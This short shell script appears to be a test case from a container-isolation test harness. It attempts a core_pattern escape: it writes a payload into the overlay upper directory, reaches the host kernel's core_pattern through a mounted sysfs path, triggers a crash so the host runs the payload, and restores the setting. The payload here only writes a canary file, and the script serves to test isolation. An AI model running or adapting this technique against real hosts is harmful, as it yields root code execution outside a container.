#!/bin/sh
. /cases/attempt.sh
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
old=$(cat /proc/sys/kernel/core_pattern)
printf '#!/bin/sh\necho by-host-kernel >%s\n' "$CANARY_DROP" 2>/dev/null >/p
chmod 755 /p 2>/dev/null
ln -s /srv/metrics/sys/kernel /tmp/settings
( echo "|$upper/p" >/tmp/settings/core_pattern ) 2>&1
if attempted core_pattern $? && [ -d /srv/metrics/sys ]; then
    sh -c 'kill -SEGV $$'
    sleep 1
    echo "$old" >/tmp/settings/core_pattern
    effect "core_pattern set"
fi
finish
